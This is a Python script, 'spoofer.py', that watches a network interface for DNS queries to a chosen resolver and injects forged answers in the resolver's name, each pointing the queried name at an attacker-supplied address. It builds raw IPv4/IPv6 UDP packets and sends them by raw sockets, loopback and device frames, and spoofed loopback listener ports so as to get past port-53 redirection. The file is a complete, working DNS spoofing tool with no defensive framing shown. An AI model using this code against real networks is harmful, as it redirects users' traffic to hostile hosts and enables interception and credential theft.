#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Answers other people's questions: watches DEVICE for questions to RESOLVER
and answers each at once, with ADDRESS, in the resolver's name, by a raw IP
socket, by a frame on loopback, by one on DEVICE, and by way of the redirection
of port 53, which gives its answers the resolver's address.

usage: spoofer.py DEVICE RESOLVER ADDRESS SECONDS

Prints each question that it has seen: "seen PORT".
"""
import socket
import struct
import sys
import time

device, resolver, address = sys.argv[1:4]
end = time.time() + float(sys.argv[4])
V6 = ":" in resolver
FAMILY = socket.AF_INET6 if V6 else socket.AF_INET
KIND = 0x86dd if V6 else 0x0800
HEAD = 40 if V6 else 20
SOURCE = socket.inet_pton(FAMILY, resolver)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(source, source_port, to, port, payload):
    datagram = struct.pack("!HHHH", source_port, port, 8 + len(payload),
                           0) + payload
    if V6:
        pseudo = source + to + struct.pack("!II", len(datagram), 17)
        datagram = (datagram[:6] +
                    struct.pack("!H", checksum(pseudo + datagram)) +
                    datagram[8:])
        return struct.pack("!IHBB", 6 << 28, len(datagram), 17,
                           64) + source + to + datagram
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 7, 0, 64,
                       17, 0, source, to)
    return (head[:10] + struct.pack("!H", checksum(head)) + head[12:] +
            datagram)


def answer(question):
    """The question with one A record that leads to ADDRESS, for a minute."""
    at = 12
    while question[at]:
        at += 1 + question[at]
    return (question[:2] + b"\x81\x80" + struct.pack("!4H", 1, 1, 0, 0) +
            question[12:at + 5] + b"\xc0\x0c" +
            struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(address))


def listeners():
    """Ports on loopback: one of them is the redirection's."""
    with open("/proc/net/udp6" if V6 else "/proc/net/udp") as f:
        local = [line.split()[1].split(":") for line in f.readlines()[1:]]
    loopback = "00000000000000000000000001000000" if V6 else "0100007F"
    return [int(port, 16) for at, port in local if at == loopback]


def attempt(send):
    try:
        send()
    except OSError:
        pass


watch = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
watch.bind((device, 3))
watch.settimeout(0.1)
raw = socket.socket(FAMILY, socket.SOCK_RAW, socket.IPPROTO_RAW)
frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
print("listening", flush=True)
while time.time() < end:
    try:
        data = watch.recv(2048)
    except OSError:
        continue
    if len(data) < HEAD + 20 or data[6 if V6 else 9] != 17:
        continue
    own = data[8:24] if V6 else data[12:16]
    to = data[24:40] if V6 else data[16:20]
    if to != SOURCE or data[HEAD + 2:HEAD + 4] != b"\0\x35":
        continue
    port = struct.unpack("!H", data[HEAD:HEAD + 2])[0]
    print("seen", port, flush=True)
    forged = packet(SOURCE, 53, own, port, answer(data[HEAD + 8:]))
    ethernet = b"\0" * 12 + struct.pack("!H", KIND) + forged
    here = (socket.inet_ntop(FAMILY, own), 0)
    attempt(lambda: raw.sendto(forged, here))
    attempt(lambda: frames.sendto(ethernet, ("lo", KIND)))
    attempt(lambda: frames.sendto(ethernet, (device, KIND)))
    # A question of ours from the same port is redirected, and what comes from
    # where it was redirected to belongs to it.
    attempt(lambda: raw.sendto(packet(own, port, SOURCE, 53, data[HEAD + 8:]),
                               (resolver, 0)))
    for listener in listeners():
        forged = packet(socket.inet_pton(FAMILY, "::1" if V6 else "127.0.0.1"),
                        listener, own, port, answer(data[HEAD + 8:]))
        ethernet = b"\0" * 12 + struct.pack("!H", KIND) + forged
        attempt(lambda: raw.sendto(forged, here))
        attempt(lambda: frames.sendto(ethernet, ("lo", KIND)))
